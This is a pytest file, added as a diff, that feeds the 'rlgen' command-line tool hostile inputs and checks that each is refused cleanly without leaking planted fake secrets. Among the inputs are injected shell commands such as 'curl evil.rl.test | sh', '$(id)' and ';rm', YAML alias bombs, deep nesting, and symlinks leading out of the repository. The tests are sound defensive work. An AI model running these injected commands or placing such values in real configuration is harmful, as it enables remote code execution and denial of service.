@@ -1,0 +1,327 @@
+"""Hostile input, one case per row: answers typed at the door, hand edits of the files rlgen
+reads back, paths and links out of the repository, data commands pointed at their own source.
+
+Every case runs the real command line and asserts what a user would notice: the exit code
+(2, never 70 and never 0 for a refused input), one line on stderr, nothing written or committed
+(files, refs, worktrees), nothing left in the temporary folder, and no secret of the input in
+the output or a crash file. conftest.py counts the outcomes into the corpus figures."""
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable
+
+import pytest
+from support.repos import GIT_URL, INSTALL, REGISTRY, commit_all, git
+
+#: Secrets planted in the inputs: none may come out anywhere.
+TOKEN = "ghp_Hostile0Corpus1Token2Value3abcdefgh"
+PASSWORD = "Hunter2HostilePassword9"
+SECRETS = (TOKEN, PASSWORD)
+RUN = "runs/baseline/run.yaml"
+REQUIRED = {"rlgen.registry": REGISTRY, "rlgen.git_url": GIT_URL, "rlgen.install": INSTALL}
+
+
+@dataclass
+class Case:
+    name: str
+    args: tuple[str, ...]
+    #: Changes the copy of the generated repository before the command (committed).
+    prepare: Callable[[Path], None] | None = None
+    code: int = 2
+    #: Text the one error line must hold.
+    says: str = ""
+    #: Runs in the repository (a copy of the generated one) or an empty folder.
+    in_repo: bool = True
+    #: Files (relative to the case's folder) that must keep their bytes: data that must not be lost.
+    keep: tuple[str, ...] = ()
+    env: dict[str, str] = field(default_factory=dict)
+
+
+def new(*sets: str, **kwargs) -> Case:
+    """``rlgen new`` with the required answers, each of ``sets`` (PLUGIN.OPTION=VALUE) replacing its own."""
+    given = dict(REQUIRED)
+    plugins = kwargs.pop("plugins", ())
+    for item in sets:
+        key, _, value = item.partition("=")
+        given[key] = value
+    args = ["new", "repo", *[a for p in plugins for a in ("--plugin", p)],
+            *[a for k, v in given.items() for a in ("--set", f"{k}={v}")], "--no-input"]
+    return Case(kwargs.pop("name"), tuple(args), in_repo=False, **kwargs)
+
+
+def edit(path: str, old: str, new_text: str) -> Callable[[Path], None]:
+    def change(repo: Path) -> None:
+        target = repo / path
+        text = target.read_text()
+        assert old in text, (path, old)
+        target.write_text(text.replace(old, new_text, 1))
+    return change
+
+
+def write(path: str, data: bytes | str) -> Callable[[Path], None]:
+    def change(repo: Path) -> None:
+        target = repo / path
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_bytes(data if isinstance(data, bytes) else data.encode())
+    return change
+
+
+def run_key(key_line: str) -> Callable[[Path], None]:
+    """Append a top-level section to the baseline run's run.yaml."""
+    return lambda repo: (repo / RUN).write_text((repo / RUN).read_text() + key_line)
+
+
+def both(*changes: Callable[[Path], None]) -> Callable[[Path], None]:
+    return lambda repo: [c(repo) for c in changes] and None
+
+
+ALIAS_BOMB = "".join([f"a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"]
+                     + [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, "
+                        f"*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]\n" for i in range(1, 9)])
+DEEP = "deep: " + "[" * 10000 + "]" * 10000 + "\n"
+
+
+def _detach(repo: Path) -> None:
+    git(repo, "switch", "-q", "--detach", "HEAD")
+
+
+def _stale_lock(repo: Path) -> None:
+    (repo / ".git" / "index.lock").write_text("")
+
+
+def _link_run_yaml(repo: Path) -> None:
+    outside = repo.parent / "outside.yaml"
+    outside.write_text((repo / RUN).read_text())
+    (repo / RUN).unlink()
+    (repo / RUN).symlink_to(outside)
+
+
+def _outside_resource(repo: Path) -> None:
+    outside = repo.parent / "elsewhere"
+    outside.mkdir()
+    (outside / "kustomization.yaml").write_text("resources: []\n")
+    path = repo / "runs" / "baseline" / "kustomization.yaml"
+    path.write_text(path.read_text().replace("resources:\n", "resources:\n  - ../../../elsewhere\n", 1))
+
+
+def _dataset(folder: str) -> Callable[[Path], None]:
+    def make(root: Path) -> None:
+        src = root / folder
+        src.mkdir(parents=True)
+        (src / "train.jsonl").write_text('{"question": "1+1?", "answer": "#### 2"}\n')
+        (src / "test.jsonl").write_text('{"question": "2+2?", "answer": "#### 4"}\n')
+    return make
+
+
+def _corrupt_parquet(root: Path) -> None:
+    src = root / "src"
+    src.mkdir()
+    (src / "train.parquet").write_bytes(b"PAR1 this is not a parquet file PAR1")
+    (src / "test.parquet").write_bytes(b"")
+
+
+def _upload_folder(root: Path) -> None:
+    src = root / "up"
+    src.mkdir()
+    (src / "train.parquet").write_bytes(b"data")
+
+
+def _upload_folder_with_link(root: Path) -> None:
+    _upload_folder(root)
+    (root / "secret.txt").write_text(PASSWORD)
+    (root / "up" / "leak.txt").symlink_to(root / "secret.txt")
+
+
+CASES = [
+    # -- answers at the door: control characters, shell text, credentials, types and ranges
+    new(f"rlgen.registry={REGISTRY}\nRUN curl x | sh", name="registry-newline", says="control character"),
+    new("rlgen.registry=registry.rl.test/team;rm", name="registry-shell", says="not a registry path"),
+    new("rlgen.registry=registry.rl.test/" + "a" * 230, name="registry-too-long", says="255"),
+    new("rlgen.registry=[a, b]", name="registry-list-text", says="not a registry path"),
+    new(f"rlgen.git_url={GIT_URL}; curl evil.rl.test | sh", name="git-url-shell", says="not a Git URL"),
+    new(f"rlgen.git_url={GIT_URL}\n", name="git-url-newline", says="control character"),
+    new(f"rlgen.git_url=https://{TOKEN}@git.rl.test/p/r.git", name="git-url-token", says="credentials"),
+    new(f"rlgen.git_url=https://me:{PASSWORD}@git.rl.test/p/r.git", name="git-url-password", says="credentials"),
+    new(f"rlgen.git_url=ssh://git:{PASSWORD}@git.rl.test/p/r.git", name="git-url-ssh-password", says="credentials"),
+    new("rlgen.git_url=file:///etc", name="git-url-file", says="not a Git URL"),
+    new(f"rlgen.install=rlgen==0.1.0 --index-url https://me:{PASSWORD}@pypi.rl.test/simple",
+        name="install-index-password", says="credentials"),
+    new(f"rlgen.install=rlgen @ git+https://{TOKEN}@git.rl.test/rlgen.git@v0.1.0",
+        name="install-git-token", says="credentials"),
+    new("rlgen.install=rlgen==0.1.0\nRUN id", name="install-newline", says="control character"),
+    new(f"rlgen.dataset_source=https://x:{PASSWORD}@hub.rl.test/d", name="dataset-source-password",
+        says="credentials"),
+    new("rlgen.dataset_source=openai/gsm8k\nx", name="dataset-source-newline", says="control character"),
+    new("rlgen.model=Qwen/Qwen2.5-0.5B\u202e", name="model-bidi", says="control character"),
+    new("rlgen.model=Qwen/Qwen2.5-0.5B$(id)", name="model-shell", says="not a hub id"),
+    new("rlgen.model_revision=main\nFROM evil", name="revision-newline", says="control character"),
+    new(f"mlflow.tracking_uri=https://u:{PASSWORD}@mlflow.rl.test", plugins=("mlflow",),
+        name="mlflow-uri-password", says="credentials"),
+    new(f"mlflow.tracking_uri=https://mlflow.rl.test/?token={TOKEN}", plugins=("mlflow",),
+        name="mlflow-uri-token-query", says="secret query parameter"),
+    new("mlflow.tracking_uri=https://mlflow.rl.test\n", plugins=("mlflow",),
+        name="mlflow-uri-newline", says="control character"),
+    new(f"ak-storage.endpoint=https://id:{PASSWORD}@oss.rl.test", name="endpoint-password", says="credentials"),
+    new("ak-storage.bucket=Bucket_With_Caps", name="bucket-bad", says="OSS bucket"),
+    new("ak-storage.region=here; id", name="region-bad", says="region id"),
+    new("rlgen.gpus_per_node=inf", name="gpus-inf", says="not a valid int"),
+    new("rlgen.gpus_per_node=1e400", name="gpus-1e400", says="not a valid int"),
+    new("rlgen.gpus_per_node=true", name="gpus-bool", says="not a valid int"),
+    new("rlgen.rdma_host_network=maybe", name="bool-text", says="not true or false"),
+    new("vllm.gpu_memory_utilization=nan", name="memory-nan", says="finite"),
+    new("vllm.gpu_memory_utilization=7", name="memory-7", says="(0, 1]"),
+    new("rlgen.run=" + "r" * 300, name="run-name-300", says="RayJob name over"),
+
+    # -- rlgen.yaml edited by hand: types, tags, bombs
+    Case("answers-gpus-true", ("validate",), edit("rlgen.yaml", "  rlgen:\n", "  rlgen:\n    gpus_per_node: true\n"),
+         says="not an integer"),
+    Case("answers-gpus-float", ("validate",), edit("rlgen.yaml", "  rlgen:\n", "  rlgen:\n    gpus_per_node: 4.9\n"),
+         says="not an integer"),
+    Case("answers-registry-list", ("validate",),
+         edit("rlgen.yaml", f"    registry: {REGISTRY}\n", "    registry: [a, b]\n"), says="not a string"),
+    Case("answers-integer-key", ("validate",), edit("rlgen.yaml", "  rlgen:\n", "  rlgen:\n    1: x\n"),
+         says="no option"),
+    Case("answers-binary-tag", ("validate",),
+         edit("rlgen.yaml", f"    registry: {REGISTRY}\n", "    registry: !!binary aGVsbG8=\n"), says="tag"),
+    Case("answers-newline-registry", ("validate",),
+         edit("rlgen.yaml", f"    registry: {REGISTRY}\n", f'    registry: "{REGISTRY}\\nRUN id"\n'),
+         says="control character"),
+    Case("answers-token-url", ("validate",),
+         edit("rlgen.yaml", f"    git_url: {GIT_URL}\n", f"    git_url: https://{TOKEN}@git.rl.test/p/r.git\n"),
+         says="credentials"),
+    Case("answers-alias-bomb", ("validate",), lambda repo: (repo / "rlgen.yaml").write_text(
+        (repo / "rlgen.yaml").read_text() + "bomb:\n" + "".join("  " + line + "\n" for line in ALIAS_BOMB.splitlines())),
+         says="aliases expand"),
+
+    # -- run.yaml edited by hand: numbers out of range, tags, timestamps, bombs, size
+    Case("run-lr-nan", ("run", "list"), run_key("actor_rollout_ref:\n  actor:\n    optim:\n      lr: .nan\n"),
+         says="finite"),
+    Case("run-lr-negative", ("validate",), run_key("actor_rollout_ref:\n  actor:\n    optim:\n      lr: -1.0\n"),
+         says="learning rate"),
+    Case("run-epochs-zero", ("run", "list"), edit(RUN, "trainer:\n", "trainer:\n  total_epochs: 0\n"),
+         says="at least 1"),
+    Case("run-epochs-inf", ("run", "list"), edit(RUN, "trainer:\n", "trainer:\n  total_epochs: .inf\n"),
+         says="an integer"),
+    Case("run-prompt-length-negative", ("run", "list"), run_key("data:\n  max_prompt_length: -1\n"),
+         says="at least 1"),
+    Case("run-memory-7", ("run", "list"),
+         run_key("actor_rollout_ref:\n  rollout:\n    gpu_memory_utilization: 7\n"), says="(0, 1]"),
+    Case("run-timestamp", ("run", "list"), run_key("note: 2024-01-01\n"), says="date"),
+    Case("run-ref-tag", ("run", "list"), run_key("note: !Ref something\n"), says="tag"),
+    Case("run-set-tag", ("run", "list"), run_key("note: !!set {a, b}\n"), says="tag"),
+    Case("run-deep-nesting", ("run", "list"), run_key(DEEP), says="nested"),
+    Case("run-alias-bomb", ("run", "list"), run_key(ALIAS_BOMB), says="aliases expand"),
+    Case("run-huge", ("run", "list"), run_key("pad: '" + "x" * (9 * 1024 * 1024) + "'\n"), says="characters"),
+    Case("run-integer-key", ("run", "list"), run_key("1: x\n"), says="not a string"),
+    Case("run-local-dir-etc", ("run", "list"), edit(RUN, "default_local_dir:", "default_local_dir: /etc\n  old_dir:"),
+         says="outside the checkpoints volume"),
+    Case("run-set-through-link", ("run", "set", "baseline", "trainer.total_epochs=3"), _link_run_yaml,
+         says="symbolic link", keep=("../outside.yaml",)),
+
+    # -- the runs index and run names
+    Case("index-empty-then-set", ("run", "set", "baseline", "trainer.total_epochs=3"),
+         write("runs/kustomization.yaml", ""), says="no run 'baseline'"),
+    Case("folder-missing-from-index-rm", ("run", "rm", "baseline"),
+         edit("runs/kustomization.yaml", "  - baseline\n", ""), says="no run 'baseline'"),
+    Case("run-new-name-300", ("run", "new", "r" * 300), says="longer than"),
+    Case("run-new-detached", ("run", "new", "second"), _detach, says="detached"),
+    Case("run-new-stale-index-lock", ("run", "new", "second"), _stale_lock, says="index.lock"),
+    Case("update-detached", ("update", "--set", "ak-storage.bucket=other-bucket"), _detach, says="detached"),
+    Case("cluster-add-detached", ("cluster", "add", "second", "--env", "staging"), _detach, says="detached"),
+
+    # -- kustomize sources edited by hand
+    Case("platform-bad-yaml", ("validate",), write("base/platform/kustomization.yaml", "resources: [unclosed\n"),
+         says="base/platform"),
+    Case("overlay-not-utf8", ("validate",), write("overlays/production/platform/kustomization.yaml", b"\xff\xfe\x80"),
+         says="overlays/production"),
+    Case("cluster-file-bad-yaml", ("validate",), write("clusters/production/extra.yaml", "a: [\n"),
+         says="clusters/production"),
+    Case("resource-outside-repo", ("validate",), _outside_resource, says="outside the repository"),
+    Case("render-out-onto-file", ("render", "--out", "README.md"), says="README.md"),
+
+    # -- data commands
+    Case("prepare-out-is-source", ("data", "prepare", "--dataset", "gsm8k", "--source", "./src", "--out", "src"),
+         _dataset("src"), in_repo=False, says="source", keep=("src/train.jsonl", "src/test.jsonl")),
+    Case("prepare-out-inside-source",
+         ("data", "prepare", "--dataset", "gsm8k", "--source", "./src", "--out", "src/out"),
+         _dataset("src"), in_repo=False, says="source", keep=("src/train.jsonl",)),
+    Case("prepare-source-inside-out",
+         ("data", "prepare", "--dataset", "gsm8k", "--source", "./data/src", "--out", "data"),
+         _dataset("data/src"), in_repo=False, says="source", keep=("data/src/train.jsonl",)),
+    Case("prepare-corrupt-parquet", ("data", "prepare", "--dataset", "gsm8k", "--source", "./src", "--out", "out"),
+         _corrupt_parquet, in_repo=False, says="src"),
+    Case("upload-endpoint-file", ("data", "upload", "up", "oss://bucket/prefix", "--endpoint", "file:///etc",
+                                  "--region", "cn-hangzhou"),
+         _upload_folder, in_repo=False, says="endpoint",
+         env={"OSS_ACCESS_KEY_ID": "id", "OSS_ACCESS_KEY_SECRET": PASSWORD}),
+    Case("upload-endpoint-password", ("data", "upload", "up", "oss://bucket/prefix",
+                                      "--endpoint", f"http://id:{PASSWORD}@127.0.0.1:9", "--region", "cn-hangzhou"),
+         _upload_folder, in_repo=False, says="credentials",
+         env={"OSS_ACCESS_KEY_ID": "id", "OSS_ACCESS_KEY_SECRET": PASSWORD}),
+    Case("upload-link-out-of-folder", ("data", "upload", "up", "oss://bucket/prefix", "--endpoint",
+                                       "http://127.0.0.1:9", "--region", "cn-hangzhou"),
+         _upload_folder_with_link, in_repo=False, says="link",
+         env={"OSS_ACCESS_KEY_ID": "id", "OSS_ACCESS_KEY_SECRET": PASSWORD}),
+]
+
+
+def _state(folder: Path) -> dict:
+    """What a refused command must not change: every file's bytes (but the ignored render
+    cache), and in a repository its refs, index, worktrees and status."""
+    files = {p.relative_to(folder).as_posix(): p.read_bytes() if not p.is_symlink() else os.readlink(p)
+             for p in sorted(folder.rglob("*"))
+             if (p.is_file() or p.is_symlink()) and not {".git", ".rlgen-cache"} & set(p.relative_to(folder).parts)}
+    state = {"files": files}
+    if (folder / ".git").exists():
+        state["refs"] = git(folder, "for-each-ref", "--format=%(refname) %(objectname)")
+        state["head"] = (folder / ".git" / "HEAD").read_text()
+        state["worktrees"] = git(folder, "worktree", "list", "--porcelain")
+    return state
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
+def test_hostile_input_is_refused_cleanly(case: Case, generate, tmp_path, record_property):
+    top = tmp_path / "case"
+    top.mkdir()
+    where = top
+    if case.in_repo:
+        where = Path(shutil.copytree(generate(), top / "repo", symlinks=True))
+        if case.prepare:
+            case.prepare(where)
+            if git(where, "status", "--porcelain").strip():
+                commit_all(where, f"hostile edit: {case.name}")
+    elif case.prepare:
+        case.prepare(where)
+    kept = {k: (where / k).read_bytes() for k in case.keep}
+    before = _state(where)
+    tmp = tmp_path / "tmpdir"
+    tmp.mkdir()
+    env = {**os.environ, "TMPDIR": str(tmp), "HF_HUB_OFFLINE": "1", "HF_DATASETS_OFFLINE": "1", **case.env}
+    result = subprocess.run([sys.executable, "-m", "rlgen", *case.args], cwd=where, capture_output=True, text=True,
+                            env=env, timeout=120)
+    crash = [p.read_text() for p in tmp.glob("rlgen-crash-*")]
+    lines = result.stderr.strip().splitlines()
+    outcome = {
+        "exit": result.returncode,
+        "one_line": len(lines) == 1 and "Traceback" not in result.stderr,
+        "data_lost": [k for k, v in kept.items() if not (where / k).exists() or (where / k).read_bytes() != v],
+        "changed": _state(where) != before,
+        "leftovers": sorted(p.name for p in tmp.iterdir()),
+        "secrets": [s for s in SECRETS if any(s in text for text in (result.stdout, result.stderr, *crash))],
+    }
+    for key, value in outcome.items():
+        record_property(f"hostile_{key}", value)
+    assert outcome["exit"] != 70, result.stderr
+    assert outcome["exit"] == case.code, result.stdout[-2000:] + result.stderr
+    if case.code == 2:
+        assert outcome["one_line"], result.stderr
+        assert case.says in lines[0], lines[0]
+    assert not outcome["secrets"], result.stdout + result.stderr
+    assert not outcome["data_lost"]
+    assert not outcome["changed"], "the command changed the folder or the repository"
+    assert not outcome["leftovers"]
